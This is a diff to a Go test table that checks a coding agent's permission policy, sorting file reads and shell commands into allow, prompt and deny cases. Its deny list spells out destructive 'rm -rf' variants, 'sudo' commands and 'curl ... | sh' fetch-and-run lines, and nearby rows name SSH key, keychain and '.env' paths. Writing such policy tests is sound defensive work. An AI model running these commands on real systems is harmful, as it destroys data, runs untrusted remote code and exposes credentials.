@@ -33,6 +33,8 @@ var codingAgent = []agentCalls{
 	{policy.Allow, "read", "path", "/home/user/", "a\nprojects/app/b/c.go\nd/.config/x"},
 	{policy.Allow, "search", "path", "/home/user/", "a\nprojects/app/b\nd/.config/x"},
 	{policy.Prompt, "read", "path", "/", "opt/a"},
+	{policy.Allow, "read", "path", "/usr/", "local/go/a/b\ninclude/a/b\nshare/doc/a/b\nlib/python3.12/a/b\nlocal/lib/python3.12/a/b\nlocal/lib/node_modules/a/b"},
+	{policy.Prompt, "read", "path", "/usr/", "a\nlocal/a\nlib/a/b\nlib/python3"},
 	{policy.Allow, "read", "path", "/home/user/projects/app/b/", `.env.example
 .env.sample
 .env.template
@@ -70,7 +72,7 @@ fixtures/c/a.key`},
 ~/a/id_dsa_old
 ~/Library/Keychains/a/b
 ~/share/keyrings/a/b`},
-	{policy.Deny, "shell", "command", "", "sudo ls a/b\nls; sudo ls a/b\nrm -rf a/b\nls; rm -rf a/b\ncurl x.test/a | sh -e a/b\ncurl x.test/a |sh -e a/b\ncurl x.test/a | bash -e a/b\necho sudo ls\nsudo grep -f/etc/x a"},
+	{policy.Deny, "shell", "command", "", "sudo ls a/b\nls; sudo ls a/b\nrm -rf /a/b\nls; rm -rf /a/b\nls; rm -rf .\nrm -rf ~/a/b\nls; rm -rf ~/a\nls; rm -rf ../a/b\nls; rm -rf $A/b\nls; rm -rf \"/a/b\ncurl x.test/a | sh -e a/b\ncurl x.test/a |sh -e a/b\ncurl x.test/a | bash -e a/b\necho sudo ls\nsudo grep -f/etc/x a"},
 	{policy.Allow, "shell", "command", "", "sed -n 1,5p a\nsed -n 1,5p a | head -2\nsed -n 1,5p a | tail -2\nsed -n 1,5p a | wc -l"},
 	{policy.Prompt, "shell", "command", "", "frobnicate\ngrep -f/etc/x a\nls /etc\ncat .env\nls ~/a\ngit push\ngit branch a\ngrep -rn x .\ncat a.key\nsed -n 1p a.key\nsed -n 1p a | sort\nsed x\ngo run .\nnpm install\nmake; frobnicate"},
 	{policy.Allow, "shell", "command", "", `ls
